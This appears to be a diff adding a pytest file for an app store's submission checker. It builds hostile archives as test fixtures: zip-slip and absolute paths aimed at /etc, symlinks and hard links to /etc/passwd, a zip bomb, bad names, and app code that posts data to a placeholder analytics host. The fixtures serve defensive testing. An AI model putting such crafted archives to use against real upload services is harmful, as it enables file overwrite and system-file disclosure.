@@ -1,0 +1,261 @@
+"""Submission checks: a good app passes; each hostile or broken case gets the right check id."""
+
+from __future__ import annotations
+
+import io
+import tarfile
+import zipfile
+
+import pytest
+
+from app_store.checks import CHECK_IDS
+from app_store.checks.run import check_upload
+from app_store.limits import Limits
+
+from .conftest import app_files, manifest, tar_gz, zip_bytes
+
+LIMITS = Limits(upload_bytes=8 * 1024 * 1024, file_bytes=8 * 1024 * 1024)
+
+
+def ids(report) -> set[str]:
+    return {p.check for p in report.problems}
+
+
+def test_a_valid_app_passes_as_tar_gz_and_zip(valid_app):
+    for data, name in ((tar_gz(valid_app), "app.tar.gz"), (zip_bytes(valid_app), "app.zip")):
+        report = check_upload(data, name)
+        assert report.problems == [] and report.accepted
+        assert report.manifest["slug"] == "my-calls"
+        assert set(report.archive.files) == set(valid_app)
+
+
+def test_every_problem_is_reported_at_once():
+    m = manifest(slug="Bad Slug", version="1.0", license="")
+    m["permissions"]["pos"] = {"type": "io.cozy.permissions", "verbs": ["GET"]}
+    files = app_files(m, **{"extra.js": b"fetch('https://tracker.example.com/x')"})
+    del files["icon.svg"]
+    report = check_upload(tar_gz(files), "a.tar.gz")
+    assert {"manifest.slug", "manifest.version", "manifest.license", "manifest.icon",
+            "permissions.reserved_doctype", "permissions.no_description",
+            "code.outbound_host"} <= ids(report)
+    assert not report.accepted
+    for p in report.problems:
+        assert p.check in CHECK_IDS and p.severity in ("error", "warning") and p.message
+
+
+def _link(kind):
+    def tweak(tar: tarfile.TarFile) -> None:
+        info = tarfile.TarInfo("evil")
+        info.type = kind
+        info.linkname = "/etc/passwd"
+        tar.addfile(info)
+    return tweak
+
+
+def _special(tar: tarfile.TarFile) -> None:
+    info = tarfile.TarInfo("pipe")
+    info.type = tarfile.FIFOTYPE
+    tar.addfile(info)
+
+
+def _zip_with(entries: list[tuple[zipfile.ZipInfo, bytes]]) -> bytes:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
+        for name, data in app_files().items():
+            zf.writestr(name, data)
+        for info, data in entries:
+            zf.writestr(info, data)
+    return buf.getvalue()
+
+
+def _symlink_zip() -> bytes:
+    info = zipfile.ZipInfo("link")
+    info.external_attr = (0o120777 << 16)
+    return _zip_with([(info, b"/etc/passwd")])
+
+
+def _bomb() -> bytes:
+    # each file under the single-file limit; together they expand far past 50x
+    return zip_bytes({**app_files(), **{f"zeros{i}.bin": b"\0" * (4 * 1024 * 1024)
+                                        for i in range(4)}})
+
+
+def _undecodable() -> bytes:
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w:gz", encoding="utf-8",
+                      errors="surrogateescape") as tar:
+        for name, data in app_files().items():
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+        info = tarfile.TarInfo(b"caf\xe9.js".decode("utf-8", "surrogateescape"))
+        info.size = 1
+        tar.addfile(info, io.BytesIO(b"x"))
+    return buf.getvalue()
+
+
+def _duplicate_zip() -> bytes:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as zf:
+        for name, data in app_files().items():
+            zf.writestr(name, data)
+        import warnings
+
+        with warnings.catch_warnings():
+            warnings.simplefilter("ignore")
+            zf.writestr("app.js", b"evil()")
+    return buf.getvalue()
+
+
+HOSTILE = {
+    "zip slip": (lambda: tar_gz({**app_files(), "../../etc/cron.d/x": b"x"}),
+                 "archive.unsafe_path"),
+    "zip slip in a zip": (lambda: zip_bytes({**app_files(), "a/../../x": b"x"}),
+                          "archive.unsafe_path"),
+    "absolute path": (lambda: tar_gz({**app_files(), "/etc/passwd": b"x"}), "archive.unsafe_path"),
+    "backslash path": (lambda: zip_bytes({**app_files(), "..\\x.js": b"x"}),
+                       "archive.unsafe_path"),
+    "symlink": (lambda: tar_gz(app_files(), _link(tarfile.SYMTYPE)), "archive.link"),
+    "hard link": (lambda: tar_gz(app_files(), _link(tarfile.LNKTYPE)), "archive.link"),
+    "symlink in a zip": (_symlink_zip, "archive.link"),
+    "fifo": (lambda: tar_gz(app_files(), _special), "archive.special_file"),
+    "zip bomb": (_bomb, "archive.ratio"),
+    "20,000 files": (lambda: tar_gz({**app_files(), **{f"f/{i}.txt": b"" for i in range(20_000)}}),
+                     "archive.too_many_files"),
+    "one huge file": (lambda: tar_gz({**app_files(), "data.csv": b"1," * (9 * 1024 * 1024)}),
+                      "archive.file_too_large"),
+    "undecodable name": (_undecodable, "archive.bad_name"),
+    "control character in a name": (lambda: tar_gz({**app_files(), "a\x07b.js": b"x"}),
+                                    "archive.bad_name"),
+    "duplicate names": (_duplicate_zip, "archive.duplicate"),
+    "not an archive": (lambda: b"just text", "archive.format"),
+    "truncated archive": (lambda: tar_gz(app_files())[:60], "archive.corrupt"),
+    "missing manifest": (lambda: tar_gz({k: v for k, v in app_files().items()
+                                         if k != "manifest.webapp"}), "manifest.missing"),
+    "malformed manifest": (lambda: tar_gz(app_files(**{"manifest.webapp": b"{name: 1"})),
+                           "manifest.invalid_json"),
+    "manifest not an object": (lambda: tar_gz(app_files(**{"manifest.webapp": b"[1]"})),
+                               "manifest.invalid_json"),
+    "reserved doctype": (lambda: tar_gz(app_files(manifest(permissions={"s": {
+        "type": "io.cozy.sessions", "verbs": ["GET"], "description": "sessions of the user"}}))),
+        "permissions.reserved_doctype"),
+    "unknown doctype": (lambda: tar_gz(app_files(manifest(permissions={"x": {
+        "type": "com.example.stuff", "verbs": ["GET"], "description": "some unknown data"}}))),
+        "permissions.unknown_doctype"),
+    "undeclared doctype in code": (lambda: tar_gz(app_files(**{
+        "app.js": b"client.collection('fr.orange.geopoint').all()"})), "code.undeclared_doctype"),
+    "outbound URL": (lambda: tar_gz(app_files(**{
+        "app.js": b"fetch('https://analytics.example.net/collect', {body: data})"})),
+        "code.outbound_host"),
+    "secret in code": (lambda: tar_gz(app_files(**{
+        "config.js": b"const api_key = 'abcd1234efgh5678'"})), "code.secret"),
+    "private key": (lambda: tar_gz(app_files(**{
+        "k.pem": b"-----BEGIN RSA PRIVATE KEY-----\nMIIB\n-----END RSA PRIVATE KEY-----"})),
+        "code.secret"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(HOSTILE))
+def test_hostile_cases_are_refused_with_the_right_check(case):
+    build, check = HOSTILE[case]
+    data = build()
+    report = check_upload(data, "upload", LIMITS)
+    assert check in ids(report), [p.check for p in report.problems]
+    assert not report.accepted
+    # nothing unsafe made it into the files that were kept
+    for name in report.archive.files:
+        assert not name.startswith("/") and ".." not in name.split("/")
+
+
+def test_an_upload_over_the_limit_is_refused_unread():
+    data = tar_gz(app_files(**{"noise.bin": bytes(range(256)) * 40_000}))
+    report = check_upload(data, "a.tar.gz", Limits(upload_bytes=1000))
+    assert ids(report) == {"archive.too_large"} and report.archive.files == {}
+
+
+def test_total_size_limit():
+    files = app_files(**{f"d{i}.txt": bytes([i]) * 600_000 for i in range(10)})
+    report = check_upload(tar_gz(files), "a.tar.gz", Limits(total_bytes=3_000_000, ratio=1e9))
+    assert "archive.total_too_large" in ids(report)
+
+
+MANIFEST_CASES = [
+    ({"name": 3}, "manifest.field"),
+    ({"runtime": None}, "manifest.field"),
+    ({"slug": "A"}, "manifest.slug"),
+    ({"version": "v1"}, "manifest.version"),
+    ({"license": None}, "manifest.license"),
+    ({"icon": "missing.png"}, "manifest.icon"),
+    ({"icon": "app.js"}, "manifest.icon"),
+    ({"short_description": "short"}, "manifest.description"),
+    ({"locales": {"french": "x"}}, "manifest.locales"),
+    ({"runtime": {"type": "java"}}, "manifest.runtime"),
+    ({"runtime": {"type": "python"}}, "manifest.runtime"),
+    ({"runtime": {"type": "static", "index": "nope.html"}}, "manifest.runtime"),
+    ({"permissions": {"x": {"verbs": ["GET"]}}}, "permissions.invalid"),
+    ({"permissions": {"x": {"type": "fr.orange.*", "description": "all of orange data"}}},
+     "permissions.invalid"),
+    ({"permissions": {"c": {"type": "fr.orange.phonecommunicationlog"}}},
+     "permissions.no_description"),
+]
+
+
+@pytest.mark.parametrize(("over", "check"), MANIFEST_CASES)
+def test_manifest_checks(over, check):
+    assert check in ids(check_upload(tar_gz(app_files(_with(over))), "a.tar.gz"))
+
+
+def _with(over: dict) -> dict:
+    """The valid manifest changed by ``over``; a None value removes the field."""
+    m = manifest(**{k: v for k, v in over.items() if v is not None})
+    for k, v in over.items():
+        if v is None:
+            m.pop(k, None)
+    return m
+
+
+def test_own_doctypes_and_localised_descriptions_are_accepted():
+    m = manifest(slug="leak-watch", permissions={
+        "water": {"type": "org.fing.mesinfos.consumptionstatement", "verbs": ["GET"]},
+        "out": {"type": "fr.hackathon.leak_watch.findings", "verbs": ["GET", "POST"],
+                "description": "Store the leaks the app found"}},
+        locales={"fr": {"permissions": {"water": {
+            "description": "Lire vos relevés d'eau pour trouver les fuites"}}}})
+    files = app_files(m, **{"app.js": b"c.collection('fr.hackathon.leak_watch.findings')"})
+    report = check_upload(tar_gz(files), "a.tar.gz")
+    assert report.problems == []
+
+
+def test_python_runtime_requirements_must_be_pinned():
+    m = manifest(runtime={"type": "python", "command": ["python", "app.py"],
+                          "requirements": "requirements.txt"})
+    good = app_files(m, **{"app.py": b"print(1)",
+                           "requirements.txt": b"httpx==0.28.1\n# comment\nnumpy==2.1.0\n"})
+    assert check_upload(tar_gz(good), "a.tar.gz").problems == []
+    bad = app_files(m, **{"app.py": b"print(1)", "requirements.txt":
+                          b"httpx>=0.27\nnumpy\ngit+https://example.org/x.git\n-e .\n"})
+    report = check_upload(tar_gz(bad), "a.tar.gz")
+    assert [p.check for p in report.problems].count("code.requirements_unpinned") == 4
+
+
+def test_local_addresses_and_namespaces_are_not_outbound():
+    files = app_files(**{"app.js": b"fetch('http://127.0.0.1:8080/data/'); "
+                                   b"const ns = 'http://www.w3.org/2000/svg'"})
+    assert check_upload(tar_gz(files), "a.tar.gz").problems == []
+
+
+def test_every_check_id_is_exercised_by_a_case_here():
+    """Sweep: each check id is produced by at least one case of this file."""
+    seen: set[str] = set()
+    for build, _ in HOSTILE.values():
+        seen |= ids(check_upload(build(), "upload", LIMITS))
+    for over, _ in MANIFEST_CASES:
+        seen |= ids(check_upload(tar_gz(app_files(_with(over))), "a.tar.gz"))
+    seen |= ids(check_upload(tar_gz(app_files()), "a.tar.gz", Limits(upload_bytes=100)))
+    seen |= ids(check_upload(tar_gz(app_files(**{f"d{i}": bytes(600_000) for i in range(6)})),
+                             "a.tar.gz", Limits(total_bytes=3_000_000, ratio=1e9)))
+    py = manifest(runtime={"type": "python", "command": ["python", "app.py"],
+                           "requirements": "requirements.txt"})
+    seen |= ids(check_upload(tar_gz(app_files(py, **{"requirements.txt": b"httpx"})), "a"))
+    assert set(CHECK_IDS) - seen == set()
+    assert seen - set(CHECK_IDS) == set()
